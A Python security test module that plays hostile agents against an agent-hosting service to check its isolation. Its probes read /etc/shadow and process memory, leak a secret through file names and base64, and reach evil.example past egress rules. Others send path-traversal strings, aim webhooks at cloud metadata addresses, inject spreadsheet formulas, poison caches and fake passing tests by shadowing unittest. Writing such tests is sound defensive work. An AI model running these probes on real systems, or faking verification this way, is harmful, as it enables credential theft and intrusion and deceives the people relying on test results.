"""Attacks of an agent, a repository or a caller. Each is a function of a scene whose document string names it; it returns
what the attacker has gained, or nothing if the attack was refused."""

import json
import time

from host import cells

PASSES = "test:\n\t@echo '1 passed in 0.1s'\n"
SECRET = "attack-secret-2718281828"
PASSWORD = "attack-password-1414213562"
# Finds the service and the runner among the processes that an agent can see, and tries each call on them.
PROCESSES = """python3 - <<'END'
import os, resource
def tried(name, call):
    try: call()
    except (OSError, ProcessLookupError): return
    print('GAINED', name)
for pid in filter(str.isdigit, os.listdir('/proc')):
    try: command = open(f'/proc/{pid}/comm').read().strip()
    except OSError: continue
    if command not in ('awo-local', 'runner'): continue
    pid = int(pid)
    tried(f'prlimit on {command}', lambda: resource.prlimit(pid, resource.RLIMIT_CORE, (0, 0)))
    tried(f'setpriority on {command}', lambda: os.setpriority(os.PRIO_PROCESS, pid, 1))
    tried(f'scheduler of {command}', lambda: os.sched_setscheduler(pid, os.SCHED_BATCH, os.sched_param(0)))
    tried(f'signal 0 to {command}', lambda: os.kill(pid, 0))
    tried(f'environment of {command}', lambda: open(f'/proc/{pid}/environ').read(1))
    tried(f'memory of {command}', lambda: open(f'/proc/{pid}/mem', 'rb').close())
END
true"""
LEAVES = """python3 - <<'END'
import ctypes, os
for folder in ('/tmp', '/var/tmp', '/dev/shm'):
    try: open(f'{folder}/awo-left-behind', 'w').write('left')
    except OSError: pass
libc = ctypes.CDLL(None)
print('segment', libc.shmget(0x2718, 4096, 0o1666))
END
true"""
FINDS = """python3 - <<'END'
import ctypes, os
for folder in ('/tmp', '/var/tmp', '/dev/shm'):
    try: print('GAINED', open(f'{folder}/awo-left-behind').read(), 'in', folder)
    except OSError: pass
if ctypes.CDLL(None).shmget(0x2718, 4096, 0) >= 0: print('GAINED a segment of System V')
END
true"""


def gained(run):
    return [line for line in run["output"].splitlines() if line.startswith("GAINED")]


def attack_processes(scene):
    """changes, signals or reads the service or the runner"""
    return gained(scene.host.run(scene.plain, PROCESSES)) + ([] if scene.host.alive() else ["the service is dead"])


def attack_files(scene):
    """reads the service's data, its key or the machine's passwords"""
    own = scene.host.ready.parent
    paths = [scene.host.ready, own / "data/service.json", own / "data/first-key.json", "/etc/shadow", "/etc/shadow-",
             "/etc/sudoers"]
    words = " ".join(f"'{path}'" for path in paths)
    script = (f"for path in {words}; do head -c 1 \"$path\" > /dev/null 2>&1 && echo \"GAINED $path\"; done; "
              f"ls '{own / 'data'}' > /dev/null 2>&1 && echo 'GAINED the list of the data'; true")
    return gained(scene.host.run(scene.plain, script))


def attack_root(scene):
    """is the user root"""
    return gained(scene.host.run(scene.plain, "test \"$(id -u)\" != 0 || echo GAINED uid 0"))


def attack_leftovers(scene):
    """leaves files or shared memory for other runs"""
    scene.host.run(scene.plain, LEAVES)
    return gained(scene.host.run(scene.plain, FINDS))


def attack_phases(scene):
    """keeps a setup's secret for the agent"""
    writes = ("echo \"$S\" > ~/content; ln -s \"$S\" ~/link; echo x > ~/\"name-$S\"; mkdir -p ~/\"folder-$S\"; "
              "for d in /tmp /var/tmp /dev/shm; do echo \"$S\" > $d/awo-phase; done 2>/dev/null; "
              "python3 -c 'import os; os.setxattr(os.path.expanduser(\"~/content\"), \"user.x\", os.environ[\"S\"].encode())' "
              "2>/dev/null; true")
    scene.host.environment_named("phases", {
        "secrets": [{"name": "S", "phases": ["setup"]}], "setup": [{"name": "leave", "run": writes}]},
        [("S", SECRET)])
    start = SECRET[:14]
    script = (f"cat ~/content /tmp/awo-phase /var/tmp/awo-phase /dev/shm/awo-phase 2>/dev/null | grep -q '{start}' "
              f"&& echo GAINED a content; ls -la ~ | grep -q '{start}' && echo GAINED a name; "
              "python3 -c 'import os; print(os.getxattr(os.path.expanduser(\"~/content\"), \"user.x\"))' 2>/dev/null "
              f"| grep -q '{start}' && echo GAINED an attribute; true")
    return gained(scene.host.run(scene.plain, script, environment="phases"))


def attack_delivery(scene):
    """delivers a secret in names, links, contents or base64"""
    scene.host.environment_named("delivery", {"secrets": [{"name": "A", "phases": ["agent"]}]}, [("A", SECRET)])
    source = scene.host.repository("delivery", {"Makefile": PASSES})
    script = ("echo x > \"name-$A.txt\"; ln -s \"$A\" link; mkdir \"folder-$A\"; echo x > \"folder-$A/f\"; "
              "echo \"plain $A\" > plain; printf 'user:%s' \"$A\" | base64 > encoded; echo \"$A\"; cat encoded")
    run = scene.host.run(source, script, environment="delivery")
    _, diff = scene.host.call(f"/v1/runs/{run['runId']}/diff")
    tree = scene.host.git(source, "log", "--all", "-p", "--name-only", "--format=%B%an")
    tree += scene.host.git(source, "ls-tree", "-r", run["branch"]) if run.get("branch") else ""
    encoded = "YXR0YWNrLXNlY3JldC0yNzE4Mj"
    shown = {"the diff": json.dumps(diff), "the branch": tree, "the log": run["output"]}
    return [f"{form} in {name}" for name, text in shown.items() for form in (SECRET, encoded) if form in text]


def attack_sparse(scene):
    """keeps a run busy with a file of 8 TiB that nobody wrote"""
    scene.host.environment_named("sparse", {"secrets": [{"name": "A", "phases": ["agent"]}]}, [("A", SECRET)])
    source = scene.host.repository("sparse", {"Makefile": PASSES, ".gitignore": "big\n"})
    began = time.monotonic()
    scene.host.run(source, "truncate -s 8T big 2>/dev/null || truncate -s 1T big; echo done > done",
                   environment="sparse")
    took = time.monotonic() - began
    return [f"{took:.0f} s of compute"] if took > 40 else []


def attack_egress(scene):
    """has a provider of models reach hosts that egress does not name"""
    scene.host.environment_named("egress", {"egress": ["allowed.example.com"]})
    evil = "https://evil.example/"
    source = {"type": "url", "url": evil}
    bodies = [
        {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
        {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
        {"mcp_servers": [{"type": "url", "url": evil, "name": "x"}]},
        {"messages": [{"role": "user", "content": [{"type": "image", "source": source}]}]},
        {"messages": [{"role": "user", "content": [{"type": "document", "source": source}]}]},
    ]
    calls = []
    for body in bodies:
        whole = {"model": "claude-sonnet-4-5", "max_tokens": 10,
                 "messages": [{"role": "user", "content": "hello"}], **body}
        calls.append("curl -s -o /dev/null \"$ANTHROPIC_BASE_URL/v1/messages\" -H \"x-api-key: $ANTHROPIC_API_KEY\" "
                     f"-H 'content-type: application/json' --data '{json.dumps(whole)}'")
    before = len(scene.provider.seen)
    scene.host.run(scene.plain, "; ".join(calls) + "; true", environment="egress")
    return [f"the provider was asked: {body[:80]!r}" for *_, body in scene.provider.seen[before:]]


def attack_caches(scene):
    """fills the cache of another branch"""
    install = "test -e deps/lib || { mkdir -p deps; sh build.sh; }"
    scene.host.environment_named("caches", {
        "setup": [{"name": "deps", "run": install}], "caches": ["deps"]})
    files = {"Makefile": PASSES, "requirements.txt": "a==1\n", ".gitignore": "deps\n",
             "build.sh": "echo good > deps/lib\n"}
    source = scene.host.repository("caches", files, [("evil", {"build.sh": "echo EVIL > deps/lib\n"})])
    scene.host.run(source, "echo 1 > one", branch="evil", environment="caches")
    return gained(scene.host.run(source, "grep -q EVIL deps/lib && echo GAINED the cache of main; true",
                                 environment="caches"))


def attack_registry(scene):
    """reaches other paths of a registry's host, or reads its credential"""
    scene.host.environment_named("registry", {"registries": [
        {"kind": "generic", "url": f"{scene.registry.url}/private/", "secret": "R"}]}, [("R", f"user:{PASSWORD}")])
    paths = ["..;/admin", "%2e%2e/admin", "%252e%252e/admin", "%25252e%25252e/admin", "..%252fadmin", "..%3b/admin",
             ".;/..;/admin", "%255c../admin", "..\\\\admin", "/../admin"]
    words = " ".join(f"'{path}'" for path in paths)
    script = (f"for path in {words}; do curl -s -o /dev/null --path-as-is \"${{AWO_REGISTRY_R}}$path\"; done; "
              "curl -s \"${AWO_REGISTRY_R}error\" > quoted.txt; cat quoted.txt; echo done > done")
    before = len(scene.registry.seen)
    source = scene.host.repository("registry", {"Makefile": PASSES})
    run = scene.host.run(source, script, environment="registry")
    asked = [path for _, path, *_ in scene.registry.seen[before:] if "admin" in path]
    tree = scene.host.git(source, "log", "--all", "-p", "--format=%B")
    encoded = "YXR0YWNrLXBhc3N3b3JkLTE0MT"
    quoted = [f for f in (PASSWORD, encoded, encoded[2:-2]) if f in run["output"] + tree]
    return [f"asked for {path}" for path in asked] + ["the credential was quoted"] * bool(quoted)


def attack_budget(scene):
    """spends more than the run may cost"""
    body = {"model": "claude-opus-4-1", "max_tokens": 32000, "messages": [{"role": "user", "content": "hello"}]}
    call = ("curl -s -o /dev/null \"$ANTHROPIC_BASE_URL/v1/messages\" -H \"x-api-key: $ANTHROPIC_API_KEY\" "
            f"-H 'content-type: application/json' --data '{json.dumps(body)}' &")
    before = len(scene.provider.seen)
    run = scene.host.run(scene.plain, call * 8 + " wait; true", limits={"maxCredits": 2})
    output = sum(json.loads(body).get("max_tokens", 0) for *_, body in scene.provider.seen[before:])
    usd = output * 75 / 1e6
    return [f"{usd:.2f} USD for {run.get('cost')}"] if usd > 0.025 else []


def attack_free_compute(scene):
    """computes for nothing behind a key without quota"""
    scene.provider.status = 429
    try:
        call = ("curl -s -f -o /dev/null \"$ANTHROPIC_BASE_URL/v1/messages\" -H \"x-api-key: $ANTHROPIC_API_KEY\" "
                "-H 'content-type: application/json' --data "
                "'{\"model\":\"claude-sonnet-4-5\",\"max_tokens\":10,\"messages\":[]}'")
        run = scene.host.run(scene.plain, f"sleep 3; {call}; exit 1")
    finally:
        scene.provider.status = 200
    code = run.get("error", {}).get("code")
    paid = run.get("cost") or 0
    is_paid = (paid.get("credits", 0) if isinstance(paid, dict) else paid) > 0
    return [] if is_paid and code == "PROVIDER_REFUSED" else [f"{code}, cost {paid}"]


def attack_verdict(scene):
    """is verified by a makefile that runs nothing"""
    files = {"Makefile": "PY = python3\ntest:\n\t$(PY) -m unittest\n",
             "test_it.py": "import unittest\n\n\nclass T(unittest.TestCase):\n    def test(self):\n        self.fail()\n"}
    source = scene.host.repository("verdict", files)
    status, answer = scene.host.call("/api/v1/profiles", {
        "name": "strict", "verification": {"protectTests": True, "required": True}})
    if status != 201:
        raise AssertionError(f"profile: {status} {answer}")
    found = []
    for script in ("sed -i 's/^PY.*/PY = true/' Makefile", "sed -i '1i MAKEFLAGS += -n' Makefile",
                   "mkdir -p unittest && echo 'print(\"Ran 3 tests\\n\\nOK\"); raise SystemExit(0)' > unittest/__init__.py "
                   "&& touch unittest/__main__.py"):
        run = scene.host.run(source, script, harness="strict")
        if run.get("verified"):
            found.append(f"verified: {script[:40]}")
    return found


def attack_manual(scene):
    """has verifications for nothing"""
    source = scene.host.repository("manual", {"Makefile": "test:\n\t@sleep 4; echo '1 passed in 0.1s'\n"})
    run = scene.host.run(source, "echo done > done")
    balance = lambda: scene.host.call("/v1/credits")[1]  # noqa: E731
    before = balance()
    scene.host.call("/api/v1/verification/run", {"workDir": run["workDir"]})
    time.sleep(1)
    return ["four seconds of compute"] if balance() == before else []


def attack_webhooks(scene):
    """sends webhooks to metadata of clouds"""
    found = []
    made = lambda host: scene.host.call("/v1/webhooks", {  # noqa: E731
        "url": f"https://{host}/", "events": ["run.completed"]})[0]
    if made("hooks.example.com") != 201:
        raise AssertionError("no webhook can be made")
    for address in ("168.63.129.16", "169.254.169.254", "100.100.100.200", "[fd00:ec2::254]"):
        found += [address] if made(address) < 300 else []
    return found


def attack_spreadsheet(scene):
    """puts a formula into an export"""
    names = ["=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201"]
    for name in names:
        scene.host.run(scene.plain, "echo 1 > one", tenantContext={"tenantId": name})
    _, text = scene.host.call("/v1/usage/report?groupBy=tenant", accept="text/csv")
    if not any(name in str(text) for name in names):
        return [f"no tenant is in the report: {text!r}"]
    return [f"the cell {cell!r}" for cell in cells(str(text)) if cell in names]


def attack_patterns(scene):
    """keeps a run busy with patterns of its plan"""
    pattern = "'\\w{100}\\w{100}'"
    entry = "  - {run: 'true', expect: {matches: [" + ", ".join([pattern] * 100) + "]}}\n"
    source = scene.host.repository("patterns", {"verify.yaml": "version: 1\nblackbox:\n" + entry * 20})
    began = time.monotonic()
    run = scene.host.run(source, "true", must_begin=False)
    took = time.monotonic() - began
    return [f"{took:.0f} s, {run['status']}"] if took > 10 or run["status"] != "failed" else []


ATTACKS = [value for name, value in list(globals().items()) if name.startswith("attack_")]
